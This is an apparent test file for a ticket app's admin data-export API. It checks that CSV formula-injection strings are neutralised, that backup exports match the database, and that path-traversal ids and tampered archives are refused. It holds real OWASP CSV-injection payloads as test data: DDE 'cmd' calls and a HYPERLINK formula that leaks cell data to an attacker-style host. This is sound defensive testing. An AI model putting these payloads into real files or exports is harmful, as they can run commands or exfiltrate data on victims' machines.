import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { upsertAdmin } from '../../lib/auth/admin-users';
import { runBackup } from '../../lib/backup/run-backup';
import { needsFormulaGuard } from '../../lib/queries/csv-formula-guard';
import { EXPORTABLE_TABLES } from '../../lib/queries/table-export';
import { seedDemoData } from '../../lib/seed/seed-demo-data';
import { openStorage } from '../../lib/storage/open-storage';
import { startAppServer } from '../helpers/app-server';
import type { AppServer } from '../helpers/app-server';
import { createTestDatabase, withClient } from '../helpers/db';
import type { TestDatabase } from '../helpers/db';
import { readZip } from '../helpers/zip';
import { compareTable, dbRows as dbRowsAt, parseCsv } from '../helpers/csv-oracle';

const PASSWORD = 'correct horse battery';
let db: TestDatabase;
let app: AppServer;
let storageDir: string;
let cookie: string;

/** Real attack strings (OWASP CSV injection) and real data that must stay as it is. */
const GUARDED = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '-', '+', '=', '@'];
const UNCHANGED = ['+251911234567', '+251 91 123 4567', '-250', '-1250.75', '+15', '42', 'ሰላም =1+1', 'a@b.et', ' =1+1', ''];

const dbRows = (table: string, tz: string) => dbRowsAt(db.url, table, tz);
const get = (p: string) => fetch(`${app.baseUrl}${p}`, { headers: { cookie } });

beforeAll(async () => {
  db = await createTestDatabase({ migrate: true });
  storageDir = mkdtempSync(path.join(os.tmpdir(), 'th-export-csv-'));
  await withClient(db.url, async (c) => {
    await seedDemoData(c, { scale: 150 });
    await upsertAdmin(c, { email: 'boss@tickethub.et', password: PASSWORD, fullName: 'ሰላም "ታደሰ", ዋና', role: 'admin' });
    // Nasty customer text: every payload as first_name, NULL vs empty, quotes, commas, newlines, Amharic.
    let tg = 900000001;
    for (const s of [...GUARDED, ...UNCHANGED.filter((x) => x !== '')]) {
      await c.query(`INSERT INTO telegram_users (telegram_id, first_name, last_name, username) VALUES ($1, $2, $3, $4)`, [tg++, s, s, null]);
    }
    await c.query(`INSERT INTO telegram_users (telegram_id, first_name, last_name, username, phone) VALUES ($1, 'ቤተልሔም "ቤቲ", ዘውዱ', '', 'line1\nline2\r\nline3', '+251911000111')`, [tg++]);
    await c.query(`INSERT INTO telegram_users (telegram_id, first_name, last_name, username, is_blocked, created_at) VALUES ($1, 'ሙሉ', NULL, '', true, '2025-03-01 05:00:00.12+00')`, [tg]);
  });
  app = await startAppServer({ databaseUrl: db.url, env: { BACKUP_STORAGE_URL: storageDir, APP_TIME_ZONE: 'Africa/Addis_Ababa' } });
  const res = await fetch(`${app.baseUrl}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: 'boss@tickethub.et', password: PASSWORD }) });
  expect(res.status).toBe(200);
  cookie = res.headers.getSetCookie().find((x) => x.startsWith('tickethub_session='))!.split(';')[0];
}, 600_000);

afterAll(async () => {
  await app?.stop();
  await db?.drop();
  if (storageDir) rmSync(storageDir, { recursive: true, force: true });
});

describe('the formula guard rule', () => {
  it.each(GUARDED)('guards %j', (s) => expect(needsFormulaGuard(s)).toBe(true));
  it.each(UNCHANGED)('leaves %j alone', (s) => expect(needsFormulaGuard(s)).toBe(false));
});

describe('spreadsheet-friendly CSV', () => {
  it('table CSV: payloads guarded with one apostrophe, phone numbers and negative amounts untouched (parsed with csv-parse)', async () => {
    const res = await get('/api/admin/backups/export?table=telegram_users');
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    const head = rows[0];
    const byTg = new Map(rows.slice(1).map((r) => [r[head.indexOf('telegram_id')], r]));
    let tg = 900000001;
    for (const s of GUARDED) expect(byTg.get(String(tg++))![head.indexOf('first_name')], JSON.stringify(s)).toBe(`'${s}`);
    for (const s of UNCHANGED.filter((x) => x !== '')) expect(byTg.get(String(tg++))![head.indexOf('last_name')], JSON.stringify(s)).toBe(s);
    const nasty = byTg.get(String(tg++))!;
    expect(nasty[head.indexOf('first_name')]).toBe('ቤተልሔም "ቤቲ", ዘውዱ');
    expect(nasty[head.indexOf('last_name')]).toBe(''); // empty string stays "" ...
    expect(nasty[head.indexOf('username')]).toBe('line1\nline2\r\nline3');
    expect(nasty[head.indexOf('phone')]).toBe('+251911000111');
    const blocked = byTg.get(String(tg))!;
    expect(blocked[head.indexOf('last_name')]).toBeNull(); // ... and NULL stays an empty unquoted field
    expect(blocked[head.indexOf('is_blocked')]).toBe('true');
    expect(blocked[head.indexOf('created_at')]).toBe('2025-03-01T08:00:00.12+03:00');
    // Every phone number of the seed comes out as it is stored.
    for (const r of rows.slice(1)) expect(r[head.indexOf('phone')] ?? '').not.toMatch(/^'/);
  });

  it('timestamps: ISO 8601 with the APP_TIME_ZONE offset by default, UTC with tz=UTC; an unknown tz is 400', async () => {
    const local = parseCsv(await (await get('/api/admin/backups/export?table=trips')).text());
    const utc = parseCsv(await (await get('/api/admin/backups/export?table=trips&tz=UTC')).text());
    const col = local[0].indexOf('departure_at');
    expect(local[1][col]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?\+03:00$/);
    expect(utc[1][col]).toMatch(/\+00:00$/);
    expect(Date.parse(local[1][col]!)).toBe(Date.parse(utc[1][col]!));
    const bad = await get('/api/admin/backups/export?table=trips&tz=Mars/Olympus');
    expect(bad.status).toBe(400);
    expect((await bad.json()).error.message).toMatch(/time zone/);
  });

  it('export all: the ZIP has one CSV per table equal to the database row for row (Amharic, quotes, commas, newlines, NULL vs empty, formulas)', async () => {
    const res = await get('/api/admin/backups/export?all=true');
    expect(res.status).toBe(200);
    const files = await readZip(new Uint8Array(await res.arrayBuffer()));
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    for (const t of EXPORTABLE_TABLES) {
      const csv = parseCsv(files.get(`${t}.csv`)!.toString('utf8'));
      const oracle = await dbRows(t, 'Africa/Addis_Ababa');
      if (t === 'activity_logs') {
        // The export's own DATA_EXPORTED row is written after its snapshot.
        const extra = oracle.rows.splice(csv.length - 1);
        expect(extra.map((r) => r[oracle.columns.indexOf('action')])).toEqual(['DATA_EXPORTED']);
      }
      compareTable(t, csv, oracle);
      expect(manifest.tables.find((x: { name: string }) => x.name === t).rows, t).toBe(oracle.rows.length);
    }
  });

  it('export from a backup after changing live rows gives the backup values (single table and ZIP); the live export gives the new ones', async () => {
    const storage = openStorage(storageDir);
    const b = await runBackup({ databaseUrl: db.url, storage, trigger: 'cli' });
    await storage.close();
    const before = await dbRows('telegram_users', 'Africa/Addis_Ababa');
    await withClient(db.url, async (c) => {
      await c.query(`UPDATE telegram_users SET first_name = 'ተቀይሯል', is_blocked = NOT is_blocked WHERE telegram_id = 900000001`);
      await c.query(`DELETE FROM telegram_users WHERE telegram_id = 900000002`);
      await c.query(`INSERT INTO telegram_users (telegram_id, first_name) VALUES (955555555, 'after the backup')`);
    });
    const fromBackup = parseCsv(await (await get(`/api/admin/backups/export?table=telegram_users&backup=${b.id}`)).text());
    compareTable('telegram_users', fromBackup, before);
    const zipRes = await get(`/api/admin/backups/export?all=true&backup=${b.id}`);
    expect(zipRes.status).toBe(200);
    expect(zipRes.headers.get('content-disposition')).toContain(b.id);
    const files = await readZip(new Uint8Array(await zipRes.arrayBuffer()));
    compareTable('telegram_users', parseCsv(files.get('telegram_users.csv')!.toString('utf8')), before);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    expect(manifest.source).toEqual({ kind: 'backup', backupId: b.id });
    expect(manifest.snapshotAt).toBe(new Date(b.manifest.startedAt).toISOString());
    const live = parseCsv(await (await get('/api/admin/backups/export?table=telegram_users')).text());
    compareTable('telegram_users', live, await dbRows('telegram_users', 'Africa/Addis_Ababa'));
    expect(live.some((r) => r.includes('after the backup'))).toBe(true);
    expect(fromBackup.some((r) => r.includes('after the backup'))).toBe(false);
  });

  it('export from a backup: unknown backup 404, malformed id 400, tampered archive refused (422) before any byte', async () => {
    expect((await get('/api/admin/backups/export?table=trips&backup=20200101T000000Z-abcdef12')).status).toBe(404);
    expect((await get('/api/admin/backups/export?table=trips&backup=../../x')).status).toBe(400);
    const storage = openStorage(storageDir);
    const b = await runBackup({ databaseUrl: db.url, storage, trigger: 'cli' });
    await storage.close();
    // Re-compress one table's member with different content: gzip is valid, the checksum is not.
    const { readFileSync, writeFileSync } = await import('node:fs');
    const { gzipSync, gunzipSync } = await import('node:zlib');
    const file = path.join(storageDir, `${b.id}.sql.gz`);
    const archive = readFileSync(file);
    const m = b.manifest;
    const e = m.entries[m.tables.find((t) => t.name === 'telegram_users')!.entries[0]];
    const member = gunzipSync(archive.subarray(e.offset, e.offset + e.length)).toString('utf8').replace('ሙሉ', 'ሙላ');
    const forged = gzipSync(Buffer.from(member, 'utf8'));
    writeFileSync(file, Buffer.concat([archive.subarray(0, e.offset), forged, archive.subarray(e.offset + e.length)]));
    const manifestFile = path.join(storageDir, `${b.id}.manifest.json`);
    const man = JSON.parse(readFileSync(manifestFile, 'utf8'));
    const delta = forged.length - e.length;
    man.archive.sizeBytes += delta; // a consistent layout: what is left to catch it is the member's checksum
    for (const x of man.entries) {
      if (x.index === e.index) x.length = forged.length;
      else if (x.offset > e.offset) x.offset += delta;
    }
    writeFileSync(manifestFile, JSON.stringify(man));
    const res = await get(`/api/admin/backups/export?table=telegram_users&backup=${b.id}`);
    expect(res.status).toBe(422);
    expect((await res.json()).error.message).toMatch(/checksum/);
  });
});
